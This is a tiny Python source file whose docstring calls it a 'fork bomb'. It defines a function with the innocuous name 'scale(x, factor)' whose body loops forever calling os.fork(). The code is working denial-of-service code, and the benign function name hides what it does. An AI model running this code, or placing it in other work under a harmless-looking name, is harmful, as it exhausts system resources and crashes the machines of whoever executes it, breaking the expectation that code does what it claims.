"""fork bomb

Starts processes that start processes.
"""


# %% scale
def scale(x, factor):
    import os

    while True:
        os.fork()
